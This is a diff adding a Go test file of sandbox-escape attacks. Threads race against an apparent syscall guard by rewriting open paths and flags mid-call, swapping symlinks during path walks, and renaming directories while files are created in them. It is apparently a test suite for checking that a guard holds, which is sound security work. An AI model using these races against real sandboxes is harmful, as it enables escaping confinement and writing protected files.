@@ -1,0 +1,146 @@
+//go:build linux
+
+package escape_test
+
+import (
+	"fmt"
+	"os"
+	"runtime"
+	"strings"
+	"sync/atomic"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// attackTimed races as somebody would who knows how the guard looks at calls: the
+// second thread strikes at one moment after the call began, late at first and
+// then ever earlier, so that a strike which misses is never one that is refused.
+// It stops at the first success, and leaves no trace of a try.
+func attackTimed(args []string) {
+	kind, target := args[0], args[1]
+	race := timedRaces[kind](target)
+	var round, done, delay, begin atomic.Int64
+	go func() {
+		runtime.LockOSThread()
+		for n := int64(1); ; n++ {
+			for round.Load() < n { //nolint:revive // a race has to spin
+			}
+			for time.Now().UnixNano()-begin.Load() < delay.Load() { //nolint:revive // a race has to spin
+			}
+			race.strike()
+			done.Store(n)
+		}
+	}()
+	runtime.LockOSThread()
+	n := int64(0)
+	for end := time.Now().Add(8 * time.Second); time.Now().Before(end); {
+		for d := 300 * time.Microsecond; d > 5*time.Microsecond && time.Now().Before(end); d -= 500 * time.Nanosecond {
+			n++
+			race.reset()
+			delay.Store(int64(d))
+			begin.Store(time.Now().UnixNano())
+			round.Store(n)
+			race.call()
+			for done.Load() < n {
+				runtime.Gosched()
+			}
+			if _, err := os.Lstat(target); err == nil {
+				fmt.Printf("raced %s with %s after %s in round %d\n", target, kind, d, n)
+				return
+			}
+		}
+	}
+	fmt.Println("held", kind, "in", n, "rounds")
+}
+
+// timedRace is a call whose meaning another thread changes.
+type timedRace struct{ reset, call, strike func() }
+
+var timedRaces = map[string]func(target string) timedRace{
+	"path": func(target string) timedRace {
+		harmless := strings.Repeat("z", len(target))
+		name := append([]byte(harmless), 0)
+		return timedRace{
+			reset: func() {
+				_ = unix.Unlink(harmless)
+				copy(name, harmless)
+			},
+			call:   func() { openRaw(&name[0]) },
+			strike: func() { copy(name, target) },
+		}
+	},
+	"flags": func(target string) timedRace {
+		name := append([]byte(target), 0)
+		how := unix.OpenHow{}
+		return timedRace{
+			reset: func() { how = unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC} },
+			call: func() {
+				fd, _, errno := unix.Syscall6(unix.SYS_OPENAT2, ^uintptr(99), uintptr(unsafe.Pointer(&name[0])),
+					uintptr(unsafe.Pointer(&how)), unsafe.Sizeof(how), 0, 0)
+				if errno == 0 {
+					_ = unix.Close(int(fd))
+				}
+			},
+			strike: func() {
+				how.Mode = 0o755
+				how.Flags = unix.O_WRONLY | unix.O_CREAT | unix.O_CLOEXEC
+			},
+		}
+	},
+	// A long way before the link, which the kernel walks while the link changes.
+	"link": func(target string) timedRace {
+		_ = os.Mkdir("s", 0o755)
+		_ = os.Symlink("s", "l")
+		_ = os.Symlink(".", "m")
+		path := strings.Repeat("s/../", 780) + "l/" + target
+		name := append([]byte(path), 0)
+		swapped := false
+		exchange := func() {
+			if unix.Renameat2(unix.AT_FDCWD, "l", unix.AT_FDCWD, "m", unix.RENAME_EXCHANGE) == nil {
+				swapped = !swapped
+			}
+		}
+		return timedRace{
+			reset: func() {
+				if swapped {
+					exchange()
+				}
+				_ = unix.Unlink("s/" + target)
+			},
+			call:   func() { openRaw(&name[0]) },
+			strike: exchange,
+		}
+	},
+}
+
+func openRaw(name *byte) {
+	fd, _, errno := unix.Syscall6(unix.SYS_OPENAT, ^uintptr(99), uintptr(unsafe.Pointer(name)),
+		unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC, 0o755, 0, 0)
+	if errno == 0 {
+		_ = unix.Close(int(fd))
+	}
+}
+
+// attackMoves makes a guarded name below a directory while that is moved to the
+// place where the name is guarded: args[0]/args[1].
+func attackMoves(args []string) {
+	parent, child := args[0], args[1]
+	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
+		_ = os.Mkdir("from", 0o755)
+		done := make(chan struct{})
+		go func() {
+			defer close(done)
+			_ = unix.Mkdir("from/"+child, 0o755)
+		}()
+		_ = unix.Rename("from", parent)
+		<-done
+		if _, err := os.Lstat(parent + "/" + child); err == nil {
+			fmt.Println("raced", parent+"/"+child)
+			return
+		}
+		_ = unix.Rmdir(parent)
+		_ = os.RemoveAll("from")
+	}
+}
